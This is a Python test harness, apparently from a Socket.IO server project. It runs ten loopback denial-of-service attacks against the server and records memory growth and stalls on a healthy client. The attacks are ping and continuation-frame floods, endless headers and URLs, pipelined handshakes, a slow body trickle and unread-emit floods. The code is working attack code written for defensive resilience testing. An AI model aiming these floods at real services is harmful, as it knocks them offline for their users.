"""The attack harness: a server process, a healthy client beside it, and the attacks.

Each attack is one unauthenticated TCP connection on loopback, bounded in time, that
tries to grow the server's memory or to stall its event loop. While it runs,
:class:`Probe` samples the server process's RSS and a healthy official client
(``tests/interop/js/abuse_healthy_client.js``) emits an echo every 20 ms and measures the
longest gap between two acknowledgements. An :class:`Outcome` tells how the server ended
the attacking connection (an HTTP status, a WebSocket close code, or nothing).

The same attacks drive ``tests/abuse/measure.py``, which prints the figures of the
report (against this tree, an older tree, or Node's socket.io).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import struct
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tests.support.node import NodeProcess
from tests.support.servers import (
    NODE_ENV,
    ServerProcess,
    node_server_argv,
    python_server_argv,
    start_server,
)
from tests.support.timeouts import scaled

HERE = Path(__file__).resolve().parent
APP = HERE / "server_app.py"

WS_KEY = "dGhlIHNhbXBsZSBub25jZQ=="


# -- the server and its measures -----------------------------------------------------------


def start_target(
    frontend: str,
    options: dict[str, Any] | None = None,
    *,
    http: str = "httptools",
    ws: str = "websockets-sansio",
    uvicorn: dict[str, Any] | None = None,
    pythonpath: str | None = None,
) -> ServerProcess:
    """Start the server under attack: ``native``, ``asgi`` (uvicorn) or ``node``."""
    if frontend == "node":
        return start_server(node_server_argv("abuse_node_server.js"), env=NODE_ENV)
    argv = python_server_argv(
        APP,
        "--frontend",
        frontend,
        "--http",
        http,
        "--ws",
        ws,
        "--options",
        json.dumps(options or {}),
        "--uvicorn",
        json.dumps(uvicorn or {}),
    )
    env = {"PYTHONPATH": pythonpath} if pythonpath else None
    return start_server(argv, env=env)


def rss_mb(pid: int) -> float:
    """The resident set size of a process, in MB."""
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


async def fetch_stats(port: int) -> dict[str, Any]:
    """``GET /stats`` of the server app (its limit counters and disconnect reasons)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(b"GET /stats HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        data = await asyncio.wait_for(reader.read(), scaled(5))
    finally:
        writer.transport.abort()
    head, _, body = data.partition(b"\r\n\r\n")
    if b"chunked" in head.lower():
        body = _unchunk(body)
    result: dict[str, Any] = json.loads(body)
    return result


def _unchunk(body: bytes) -> bytes:
    out = bytearray()
    while body:
        size_line, _, rest = body.partition(b"\r\n")
        size = int(size_line.split(b";")[0], 16)
        if size == 0:
            break
        out += rest[:size]
        body = rest[size + 2 :]
    return bytes(out)


class HealthyClient:
    """The official client echoing every 20 ms beside the attack."""

    def __init__(self, node: NodeProcess) -> None:
        self.node = node

    @classmethod
    @contextlib.asynccontextmanager
    async def running(cls, port: int) -> AsyncIterator[HealthyClient]:
        node = await NodeProcess.start(
            "abuse_healthy_client.js", "--url", f"http://127.0.0.1:{port}"
        )
        try:
            await node.wait_for("connected", timeout=15)
            client = cls(node)
            await asyncio.sleep(0.3)  # warm up
            yield client
        finally:
            with contextlib.suppress(Exception):
                node.send("exit")
            await node.stop()

    async def reset(self) -> None:
        self.node.send("reset")
        await self.node.wait_for("reset")

    async def report(self) -> dict[str, Any]:
        self.node.send("report")
        line: dict[str, Any] = await self.node.wait_for("report")
        return line


@dataclass
class Outcome:
    """How the server ended the attacking connection."""

    status: int | None = None  # an HTTP status the server answered with
    close_code: int | None = None  # the code of the server's WebSocket close frame
    closed: bool = False  # the server closed (or dropped) the connection
    sent: int = 0  # bytes the attacker got the server to take
    detail: dict[str, Any] = field(default_factory=dict)


@dataclass
class Measure:
    """The figures of one attack."""

    baseline_mb: float
    peak_mb: float
    healthy: dict[str, Any]
    outcome: Outcome
    seconds: float
    stats: dict[str, Any] = field(default_factory=dict)

    @property
    def growth_mb(self) -> float:
        return self.peak_mb - self.baseline_mb

    def summary(self) -> dict[str, Any]:
        return {
            "rss_growth_mb": round(self.growth_mb, 1),
            "healthy_max_gap_ms": _round(self.healthy.get("maxGap")),
            "healthy_p99_ms": _round(self.healthy.get("p99")),
            "status": self.outcome.status,
            "close_code": self.outcome.close_code,
            "closed": self.outcome.closed,
            "sent_mb": round(self.outcome.sent / 1e6, 1),
            "seconds": round(self.seconds, 1),
        }


def _round(value: Any) -> Any:
    return round(value, 1) if isinstance(value, (int, float)) else value


Attack = Callable[[int, float], Awaitable[Outcome]]


async def measure(
    server: ServerProcess, attack: Attack, seconds: float, *, settle: float = 0.0
) -> Measure:
    """Run ``attack`` for ``seconds`` beside a healthy client; sample RSS meanwhile."""
    pid = server.proc.pid
    async with HealthyClient.running(server.port) as healthy:
        baseline = rss_mb(pid)
        peak = baseline
        await healthy.reset()
        started = time.monotonic()
        task = asyncio.ensure_future(attack(server.port, seconds))
        while not task.done():
            peak = max(peak, rss_mb(pid))
            await asyncio.wait({task}, timeout=0.1)
        outcome = task.result()
        if settle:
            end = time.monotonic() + settle
            while time.monotonic() < end:
                peak = max(peak, rss_mb(pid))
                await asyncio.sleep(0.1)
        elapsed = time.monotonic() - started
        report = await healthy.report()
    stats: dict[str, Any] = {}
    with contextlib.suppress(Exception):
        stats = await fetch_stats(server.port)
    return Measure(baseline, peak, report, outcome, elapsed, stats)


# -- raw wire helpers -------------------------------------------------------------------------


def masked(opcode: int, payload: bytes = b"", fin: bool = True) -> bytes:
    """A client frame (masked with a zero key, which leaves the payload as is)."""
    b0 = (0x80 if fin else 0) | opcode
    n = len(payload)
    if n < 126:
        head = bytes((b0, 0x80 | n))
    elif n < 65536:
        head = struct.pack("!BBH", b0, 0x80 | 126, n)
    else:
        head = struct.pack("!BBQ", b0, 0x80 | 127, n)
    return head + b"\x00\x00\x00\x00" + payload


def close_code_in(data: bytes) -> int | None:
    """The code of the first close frame in a stream of server frames (read from the
    first frame after the handshake), if any."""
    pos = 0
    while pos + 2 <= len(data):
        b0, b1 = data[pos], data[pos + 1]
        n = b1 & 0x7F
        head = 2
        if n == 126:
            if pos + 4 > len(data):
                return None
            n = struct.unpack("!H", data[pos + 2 : pos + 4])[0]
            head = 4
        elif n == 127:
            if pos + 10 > len(data):
                return None
            n = struct.unpack("!Q", data[pos + 2 : pos + 10])[0]
            head = 10
        if b0 & 0x0F == 8:
            payload = data[pos + head : pos + head + n]
            return struct.unpack("!H", payload[:2])[0] if len(payload) >= 2 else 1005
        pos += head + n
    return None


async def ws_connect(
    port: int, query: str = "EIO=4&transport=websocket", extra: str = ""
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter, bytes]:
    """Open a WebSocket on the Socket.IO path; return the stream and the bytes after
    the 101's head (the Engine.IO open packet, usually)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(
        (
            f"GET /socket.io/?{query} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
            "Upgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {WS_KEY}\r\nSec-WebSocket-Version: 13\r\n{extra}\r\n"
        ).encode()
    )
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), scaled(10))
    if b" 101 " not in head.split(b"\r\n", 1)[0]:
        raise AssertionError(f"no 101: {head!r}")
    return reader, writer, b""


async def _drain(writer: asyncio.StreamWriter, timeout: float) -> bool:
    """Wait for the kernel to take our bytes; False if the server stopped reading."""
    try:
        await asyncio.wait_for(writer.drain(), timeout)
        return True
    except TimeoutError:
        return False


async def read_all(reader: asyncio.StreamReader, timeout: float) -> tuple[bytes, bool]:
    """Read what the server sent, until EOF (True) or ``timeout`` (False)."""
    chunks: list[bytes] = []
    loop = asyncio.get_running_loop()
    deadline = loop.time() + timeout
    try:
        while True:
            remaining = deadline - loop.time()
            if remaining <= 0:
                return b"".join(chunks), False
            chunk = await asyncio.wait_for(reader.read(1 << 20), remaining)
            if not chunk:
                return b"".join(chunks), True
            chunks.append(chunk)
    except TimeoutError:
        return b"".join(chunks), False
    except (ConnectionError, OSError):
        return b"".join(chunks), True


async def _flood(
    writer: asyncio.StreamWriter,
    chunk: bytes | Callable[[], bytes],
    seconds: float,
    *,
    every: tuple[float, bytes] | None = None,
    pace: float = 0.0,
) -> tuple[int, bool]:
    """Write ``chunk`` as fast as the server takes it (or every ``pace`` seconds) for
    ``seconds``; optionally another message every so often. Returns the bytes taken and
    whether the connection broke."""
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    sent = 0
    next_extra = loop.time() + every[0] if every else None
    try:
        while loop.time() < end:
            data = chunk() if callable(chunk) else chunk
            writer.write(data)
            if every is not None and next_extra is not None and loop.time() >= next_extra:
                writer.write(every[1])
                next_extra = loop.time() + every[0]
            if await _drain(writer, min(0.5, max(end - loop.time(), 0.01))):
                sent += len(data)
            if pace:
                await asyncio.sleep(pace)
    except (ConnectionError, OSError):
        return sent, True
    return sent, writer.is_closing()


def _status(data: bytes) -> int | None:
    if data.startswith(b"HTTP/1."):
        try:
            return int(data.split(b" ", 2)[1])
        except (IndexError, ValueError):
            return None
    return None


# -- the attacks -------------------------------------------------------------------------------


async def ping_flood(port: int, seconds: float, hold: float = 3.0) -> Outcome:
    """High 1: WebSocket pings as fast as possible, pongs never read; an Engine.IO pong
    every second keeps the session alive (as long as the server reads it). After the
    flood the connection stays open, unread, for ``hold`` seconds; then what the server
    sent is read, to see whether it closed the connection."""
    reader, writer, _ = await ws_connect(port)
    writer.write(masked(0x1, b"40"))  # a Socket.IO socket: its disconnect reason is seen
    pings = masked(0x9, b"p" * 125) * 512
    sent, broke = await _flood(writer, pings, seconds, every=(1.0, masked(0x1, b"3")))
    await asyncio.sleep(hold)
    data, eof = await read_all(reader, scaled(2))
    writer.transport.abort()
    return Outcome(close_code=close_code_in(data), closed=broke or eof, sent=sent)


async def pipeline_flood(port: int, seconds: float) -> Outcome:
    """High 2: pipelined Engine.IO handshakes whose answers are never read."""
    _reader, writer = await asyncio.open_connection("127.0.0.1", port)
    one = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    sent, broke = await _flood(writer, one * 256, seconds)
    writer.transport.abort()
    return Outcome(closed=broke, sent=sent)


async def _head_flood(port: int, seconds: float, start: bytes, filler: bytes) -> Outcome:
    """A head that grows by ``filler`` every millisecond (8 MB/s), never completed. (Paced,
    so that the server's answer is read before the attacker's unread bytes make the close
    a reset, which would lose it.)"""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(start)
    reading = asyncio.ensure_future(read_all(reader, seconds + scaled(10)))
    sent, broke = await _flood(writer, filler, seconds, pace=0.001)
    writer.transport.abort()
    data, eof = await reading
    return Outcome(status=_status(data), closed=broke or eof, sent=sent)


async def endless_header(port: int, seconds: float) -> Outcome:
    """High 3: a header value that never ends."""
    start = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Long: "
    return await _head_flood(port, seconds, start, b"a" * 8192)


async def endless_url(port: int, seconds: float) -> Outcome:
    """Low 10: a URL that never ends."""
    return await _head_flood(port, seconds, b"GET /socket.io/?EIO=4&x=", b"a" * 8192)


async def endless_header_list(port: int, seconds: float) -> Outcome:
    """Low 10: a list of headers that never ends."""
    start = b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\n"
    return await _head_flood(port, seconds, start, b"X-A: b\r\n" * 1024)


async def continuation_flood(port: int, seconds: float) -> Outcome:
    """High 4: a fragmented message whose empty continuation frames never end."""
    reader, writer, _ = await ws_connect(port)
    writer.write(masked(0x1, b"4", fin=False))
    reading = asyncio.ensure_future(read_all(reader, seconds + scaled(10)))
    sent, broke = await _flood(writer, masked(0x0, b"", fin=False) * 8192, seconds)
    writer.transport.abort()
    data, eof = await reading
    return Outcome(close_code=close_code_in(data), closed=broke or eof, sent=sent)


async def body_trickle(port: int, seconds: float, every: float = 0.5) -> Outcome:
    """Low 11: a request body sent one byte at a time."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(
        b"POST /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        b"Content-Type: text/plain\r\nContent-Length: 100000\r\n\r\n"
    )
    reading = asyncio.ensure_future(read_all(reader, seconds + scaled(10)))
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    sent = 0
    broke = False
    while loop.time() < end and not reading.done():
        try:
            writer.write(b"4")
            await writer.drain()
            sent += 1
        except (ConnectionError, OSError):
            broke = True
            break
        await asyncio.sleep(every)
    data, eof = await reading if reading.done() else (b"", False)
    if not reading.done():
        reading.cancel()
    writer.transport.abort()
    return Outcome(status=_status(data), closed=broke or eof, sent=sent)


async def no_host(port: int, seconds: float) -> Outcome:
    """Low 13: an HTTP/1.1 handshake with no Host header."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(b"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\n\r\n")
    data, eof = await read_all(reader, scaled(5))
    writer.transport.abort()
    return Outcome(status=_status(data), closed=eof)


async def connect_socketio(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A raw WebSocket that joins the main namespace (reads the open and connect packets)."""
    reader, writer, _ = await ws_connect(port)
    writer.write(masked(0x1, b"40"))
    buf = b""
    loop = asyncio.get_running_loop()
    deadline = loop.time() + scaled(10)
    while b"40{" not in buf:
        remaining = deadline - loop.time()
        if remaining <= 0:
            raise AssertionError(f"no CONNECT answer: {buf!r}")
        buf += await asyncio.wait_for(reader.read(4096), remaining)
    return reader, writer


async def unread_binary(port: int, seconds: float) -> Outcome:
    """High 1 (``_write_ws``): the application sends binary messages to a connection that
    never reads, on a send path the Engine does not bound."""
    reader, writer = await connect_socketio(port)
    writer.write(masked(0x1, b'42["spam",64,1000000]'))
    return await _watch_close(reader, writer, seconds)


async def unread_emits(port: int, seconds: float) -> Outcome:
    """Medium 7: the application emits to a client that never reads, until the Engine
    closes it ("send buffer full"); the close itself then cannot be written."""
    reader, writer = await connect_socketio(port)
    writer.write(masked(0x1, b'42["flood",400,100000]'))
    return await _watch_close(reader, writer, seconds)


async def _watch_close(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, seconds: float
) -> Outcome:
    """Read nothing for ``seconds``; then read what the server sent until it ends the
    connection (its close frame's code, if it could send one)."""
    await asyncio.sleep(seconds)
    data, eof = await read_all(reader, scaled(2))
    writer.transport.abort()
    return Outcome(close_code=close_code_in(data), closed=eof)


def attacks() -> dict[str, Attack]:
    """The attacks by name (``measure.py`` runs them all)."""
    return {
        "ping_flood": ping_flood,
        "pipeline_flood": pipeline_flood,
        "endless_header": endless_header,
        "endless_url": endless_url,
        "endless_header_list": endless_header_list,
        "continuation_flood": continuation_flood,
        "body_trickle": body_trickle,
        "no_host": no_host,
        "unread_binary": unread_binary,
        "unread_emits": unread_emits,
    }


def node_available() -> bool:
    return (HERE.parent / "interop" / "node_modules" / "socket.io").is_dir()


__all__ = [
    "Attack",
    "HealthyClient",
    "Measure",
    "Outcome",
    "attacks",
    "fetch_stats",
    "measure",
    "node_available",
    "rss_mb",
    "start_target",
]

os.environ.setdefault("PYTHONUNBUFFERED", "1")
